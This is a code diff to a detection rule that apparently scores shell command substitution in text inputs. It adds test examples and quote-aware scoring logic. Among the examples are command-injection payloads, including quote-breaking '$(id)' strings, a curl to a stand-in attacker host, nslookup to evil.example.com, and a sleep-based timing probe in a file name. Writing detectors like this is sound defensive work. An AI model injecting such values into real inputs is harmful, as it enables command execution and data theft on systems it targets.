@@ -19,6 +19,9 @@ export const substitution: ValueRule = {
   trigger: { literals: [['$(', '`', '<(', '>(']] },
   judge,
   examples: [
+    "The lamp came in a box that was much too large'$(id)' and so on",
+    "The lamp came in a box that was much too large'`hostname`' and so on",
+    'The files that I mean are these: $(curl http://evil.example.com/a)',
     '$(nslookup evil.example.com)',
     '`id`',
     'photo$(sleep 7).jpg',
@@ -68,6 +71,8 @@ export const substitution: ValueRule = {
     'Lihat juga: `basename`.',
     'In bash $(<file.txt) does the same as cat, but faster.',
     'use `<b>` here',
+    "the shell puts the folder in place of '$(pwd)' and goes on",
+    'The log says:\n\nmodules for $(uname -r) are missing',
     { body: { 'body.text': 'just do `rm -rf node_modules && npm i`' } },
     { body: { 'body.description': 'I run `sudo apt update && sudo apt upgrade -y` every week' } },
   ],
@@ -78,13 +83,14 @@ function judge(subject: Subject): Match | undefined {
   const reading = subject.tokens(commands);
   if (!reading.complete) subject.incomplete('tokens');
   let best: Match | undefined;
+  const listing = text.search(listingMark);
   for (const command of reading.list) {
     const { head } = command;
     if (head.introducer < introducer.substitution) continue;
     const score =
       head.introducer === introducer.backtick
         ? backtickScore(text, command)
-        : closedScore(text, command);
+        : closedScore(text, command, listing >= 0 && listing < head.start);
     if (score > (best?.score ?? 0)) {
       best = { start: head.start, end: closing(text, command), score };
     }
@@ -104,19 +110,23 @@ function readsFile(text: string): Match | undefined {
 const fileRead =
   /\$\(\s{0,8}<\s{0,8}['"]?(?:~|\.{1,2})?\/[\w./*?[\]'"\\-]{3,120}\s{0,8}\)|`\s{0,8}<\s{0,8}['"]?(?:~|\.{1,2})?\/[\w./*?[\]'"\\-]{3,120}\s{0,8}`/;
 
+/** What an example in a text stands behind. */
+const listingMark = /[\n`]/;
 const closers = ')|;&';
 
-function closedScore(text: string, command: Command): number {
+/** `isListed`: in a later line of a text, or behind marks of code. */
+function closedScore(text: string, command: Command, isListed: boolean): number {
   const { head } = command;
   const isClosed = closers.includes(text.charAt(command.end));
   if (command.hidden) return confidence.certain;
+  if (command.fit >= fit.aloneWord && isBetweenQuotes(text, head.start, command.end + 1))
+    return confidence.strong;
   const isPlaced = isPlacedAt(text, command) || isGlued(text, head.start);
   if (command.structured && isPlaced && command.fit >= fit.weak) return confidence.certain;
   switch (command.fit) {
     case fit.full:
-      return isPlaced || namesSecret(text, head.start, command.end)
-        ? confidence.certain
-        : confidence.hint;
+      if (isPlaced || namesSecret(text, head.start, command.end)) return confidence.certain;
+      return isListed || developerTools.has(command.name) ? confidence.hint : confidence.strong;
     case fit.weak:
       if (developerTools.has(command.name) && !namesSecret(text, head.start, command.end))
         return confidence.hint;
@@ -171,9 +181,10 @@ function backtickScore(text: string, command: Command): number {
   const end = close + 1;
   const { start } = command.head;
   if (documentPath.test(text.slice(start, end))) return confidence.trace;
-  if (isListed.test(text.slice(Math.max(0, start - 24), start))) return confidence.trace;
+  if (listMark.test(text.slice(Math.max(0, start - 24), start))) return confidence.trace;
   if (isIntroduced(text, start, end)) return confidence.trace;
   if (isJoined(text, start, end)) return confidence.certain;
+  if (isBetweenQuotes(text, start, end)) return confidence.strong;
   const isTool = developerTools.has(command.name) && !runsCode.test(text.slice(start, end));
   if (isTool && !command.hidden && !namesSecret(text, start, end)) return confidence.trace;
   // A link of Markdown: [`name`](target).
@@ -192,6 +203,18 @@ function backtickScore(text: string, command: Command): number {
   }
   return command.fit === fit.alone ? confidence.strong : confidence.certain;
 }
+
+/**
+ * `a sentence'$(id)'`: between the quote that ends the application's literal, right behind a word of
+ * it, and the one that opens it again. Around code that is quoted stand blanks.
+ */
+function isBetweenQuotes(text: string, start: number, end: number): boolean {
+  const quote = text.charAt(start - 1);
+  if (quote === '' || !quotes.includes(quote) || text.charAt(end) !== quote) return false;
+  return lastOfWord.test(text.slice(Math.max(0, start - 3), start - 1));
+}
+
+const lastOfWord = /[\p{L}\d.!?]$/u;
 
 /**
  * `12\`reboot\``: joined to the only word in front of it, and nothing but quotes behind. Code that
@@ -224,7 +247,7 @@ function isIntroduced(text: string, start: number, end: number): boolean {
 const introduction = /\p{L}{2,30} \p{L}{2,30}: $/u;
 
 /** The mark of a heading, a quotation or a list of Markdown right before it. */
-const isListed = /(?:^|\n)\s{0,8}(?:#{1,6}|[*+>-]|\d{1,2}\.) $/;
+const listMark = /(?:^|\n)\s{0,8}(?:#{1,6}|[*+>-]|\d{1,2}\.) $/;
 /** `-c '…'`, `-e "…"` */
 const runsCode = / -[a-z]{0,3}[cer]\b ?['"]?/;
 
